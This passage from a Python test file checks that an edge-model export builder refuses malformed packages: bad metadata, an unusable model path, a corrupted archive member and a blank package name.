        ({**metadata, "outputs": [metadata["outputs"][0], metadata["outputs"][0]]}, "names an output twice"),
        (
            {
                **metadata,
                "validation": {
                    **metadata["validation"],
                    "onnx_int8": {"status": "built", "file": "../x.onnx"},
                },
            },
            "names no usable model file",
        ),
        (
            {**metadata, "validation": {k: v for k, v in metadata["validation"].items() if k != "onnx"}},
            "has no FP32 ONNX model",
        ),
    ]
    for document, message in cases:
        bad = rewrite_zip(
            packages.full, tmp_path / "bad.zip", replace={"metadata.json": json.dumps(document).encode()}
        )
        _refused("edge", bad, tmp_path / "out", re.escape(message))


def test_a_member_that_cannot_be_decompressed_is_refused(packages: ExportPackages, tmp_path: Path) -> None:
    # Corrupt the deflated bytes of the Kotlin wrapper inside the archive, keeping its header.
    data = bytearray(packages.full.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(EDGE_WRAPPERS[0])
    assert info.compress_type == zipfile.ZIP_DEFLATED
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start : start + 16] = b"\xff" * 16
    corrupt = tmp_path / "corrupt.zip"
    corrupt.write_bytes(bytes(data))
    _refused("edge", corrupt, tmp_path / "out", "ModelWrapper.kt' (cannot be read|is corrupt)")


def test_a_package_name_is_required(packages: ExportPackages, tmp_path: Path) -> None:
    with pytest.raises(RequestInvalid, match="needs a name") as caught:
        build_edge_package(packages.full, tmp_path, name="  ")
    assert caught.value.field == "name"
    # A name with nothing usable in a file name falls back to the model's.
    assert build_edge_package(packages.full, tmp_path, name="!!!").file_name == "tiny-loc-edge.zip"
